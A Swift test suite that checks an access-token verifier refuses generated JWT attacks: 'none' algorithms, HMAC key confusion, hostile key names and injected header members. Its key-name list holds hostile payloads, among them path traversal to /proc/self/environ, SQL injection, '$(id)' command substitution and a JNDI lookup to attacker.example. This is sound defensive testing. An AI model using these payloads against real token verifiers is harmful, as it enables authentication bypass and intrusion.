import Crypto
import Domain
import Foundation
import Secrets
import Testing

@testable import Accounts

/// Generated attacks: every combination of a kind, signed with the genuine key wherever a key is asked for.
@Suite("Access tokens under generated attack")
struct TokenAttackTests {
    private let fixture: TokenFixture

    init() throws {
        fixture = try TokenFixture()
    }

    private func refused(_ token: String) -> Bool {
        do throws(AccessTokenError) { _ = try fixture.tokens.verify(token) } catch { return error == .invalid }
        return false
    }

    private func header(_ members: String) -> String { "{\(members)}" }

    @Test("are refused for “none” in every mixture of capitals, signed, unsigned, or signed with nothing")
    func none() throws {
        let payload = try fixture.payload()
        for capitals in 0..<16 {
            let name = String(
                "none".enumerated().map { capitals >> $0 & 1 == 1 ? Character($1.uppercased()) : $1 })
            for kid in [#","kid":"key-1""#, ""] {
                let token = try fixture.sign(
                    header: header(#""alg":"\#(name)"\#(kid),"typ":"at+jwt""#), claims: payload)
                let unsigned = token.split(separator: ".").prefix(2).joined(separator: ".")
                let zeros = Base64URL.encode([UInt8](repeating: 0, count: 64))
                for variant in [token, unsigned, unsigned + ".", "\(unsigned).\(zeros)", "\(unsigned).AA"] {
                    #expect(refused(variant))
                }
            }
        }
    }

    @Test(
        "are refused when any form of the public key served as an HMAC secret", arguments: ["HS256", "HS384", "HS512"])
    func keyConfusion(name: String) throws {
        let key = fixture.privateKey.publicKey
        let pem = key.pemRepresentation
        let secrets =
            [pem, pem + "\n", pem.trimmingCharacters(in: .newlines), pem.replacing("\n", with: "\r\n")].map {
                Data($0.utf8)
            }
            + [
                key.derRepresentation, key.rawRepresentation, key.x963Representation, key.compressedRepresentation,
                fixture.tokens.keys.jwks, Data(), Data(key.derRepresentation.base64EncodedString().utf8),
            ]
        let genuine = #"{"alg":"ES256","kid":"key-1","typ":"at+jwt"}"#
        let payload = Base64URL.encode(try JSONSerialization.data(withJSONObject: fixture.payload()))
        for header in [genuine, genuine.replacing("ES256", with: name)] {
            let input = Base64URL.encode(Array(header.utf8)) + "." + payload
            for secret in secrets {
                let code = Self.code(name, over: Data(input.utf8), secret: SymmetricKey(data: secret))
                for signature in [code, Array((code + code + code).prefix(64))] {
                    #expect(refused(input + "." + Base64URL.encode(signature)))
                }
            }
        }
    }

    private static func code(_ name: String, over input: Data, secret: SymmetricKey) -> [UInt8] {
        switch name {
        case "HS256": Array(HMAC<SHA256>.authenticationCode(for: input, using: secret))
        case "HS384": Array(HMAC<SHA384>.authenticationCode(for: input, using: secret))
        default: Array(HMAC<SHA512>.authenticationCode(for: input, using: secret))
        }
    }

    static let keyNames = [
        "key-2", "KEY-1", "key-1 ", " key-1", "key-1/", "../../dev/null", "/dev/null", "/proc/self/environ",
        "file:///etc/passwd", "https://attacker.example/key", "' or '1'='1", "key-1'; drop table signing_keys; --",
        "key-1\\u0000", "key\\u002d1", "%6bey-1", "*", "$(id)", "`id`", "${jndi:ldap://attacker.example/a}", "",
    ]

    @Test("are refused for a key's name that is another, a path, a URL, a statement or a spelling", arguments: keyNames)
    func names(name: String) throws {
        let payload = try fixture.payload()
        #expect(
            refused(
                try fixture.sign(header: header(#""alg":"ES256","kid":"\#(name)","typ":"at+jwt""#), claims: payload)))
    }

    @Test("are refused for a key's name that is missing, doubled, of another type or a megabyte long")
    func strangeNames() throws {
        let payload = try fixture.payload()
        let megabyte = String(repeating: "k", count: 1 << 20)
        let spellings = [
            "", #""kid":"key-1","kid":"key-1","#, #""kid":"key-2","kid":"key-1","#, #""kid":"key-1","kid":"key-2","#,
            #""kid":["key-1"],"#, #""kid":{"key-1":1},"#, #""kid":1,"#, #""kid":null,"#, #""kid":true,"#,
            #""Kid":"key-1","#, #""kid":"\#(megabyte)","#,
            #""kid":"key-1","x":"\#(String(repeating: "x", count: 2_000))","#,
        ]
        for kid in spellings {
            #expect(refused(try fixture.sign(header: header(#""alg":"ES256",\#(kid)"typ":"at+jwt""#), claims: payload)))
        }
    }

    @Test("are refused for anything else in the header, wherever it stands, although a stranger's key would fit it")
    func extras() throws {
        let stranger = P256.Signing.PrivateKey()
        let point = stranger.publicKey.rawRepresentation
        let jwk =
            #"{"kty":"EC","crv":"P-256","x":"\#(Base64URL.encode(point.prefix(32)))","y":"\#(Base64URL.encode(point.suffix(32)))"}"#
        let certificate = stranger.publicKey.derRepresentation.base64EncodedString()
        let extras = [
            #""jwk":\#(jwk)"#, #""jku":"http://127.0.0.1:1/jwks.json""#, #""x5u":"http://127.0.0.1:1/cert.pem""#,
            #""x5c":["\#(certificate)"]"#, #""x5t":"AAAA""#, #""x5t#S256":"AAAA""#, #""crit":[]"#, #""crit":["exp"]"#,
            #""crit":["b64"],"b64":false"#, #""b64":false"#, #""b64":true"#, #""zip":"DEF""#, #""enc":"A256GCM""#,
            #""cty":"JWT""#, #""alg":"none""#, #""alg":"ES256""#, #""typ":"at+jwt""#,
        ]
        let own = [#""alg":"ES256""#, #""kid":"key-1""#, #""typ":"at+jwt""#]
        let payload = Base64URL.encode(try JSONSerialization.data(withJSONObject: fixture.payload()))
        for extra in extras {
            for place in 0...own.count {
                var members = own
                members.insert(extra, at: place)
                let text = header(members.joined(separator: ","))
                let input = Base64URL.encode(Array(text.utf8)) + "." + payload
                for key in [fixture.privateKey, stranger] {
                    let signature = try key.signature(for: Data(input.utf8)).rawRepresentation
                    #expect(refused(input + "." + Base64URL.encode(signature)))
                }
            }
        }
    }

    @Test(
        "are refused for another type",
        arguments: ["JWT", "jwt", "AT+JWT", "application/at+jwt", "at+JWT", "rt+jwt", ""])
    func types(name: String) throws {
        let text = header(#""alg":"ES256","kid":"key-1","typ":"\#(name)""#)
        #expect(refused(try fixture.sign(header: text, claims: fixture.payload())))
    }
}
